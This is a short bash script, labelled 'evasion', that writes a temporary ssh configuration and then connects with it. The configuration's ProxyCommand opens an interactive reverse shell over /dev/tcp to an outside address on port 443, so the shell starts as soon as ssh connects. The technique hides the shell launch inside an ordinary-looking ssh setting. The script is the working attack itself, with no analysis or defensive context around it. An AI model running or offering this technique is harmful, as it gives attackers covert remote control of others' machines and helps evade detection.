#!/bin/bash
# evasion: an ssh configuration written by printf; its ProxyCommand runs a shell when ssh connects
cfg=$(mktemp)
printf 'Host build\n  HostName 192.0.2.9\n  ProxyCommand %s\n' 'bash -c "bash -i >& /dev/tcp/203.0.113.41/443 0>&1"' > "$cfg"
ssh -F "$cfg" build uptime
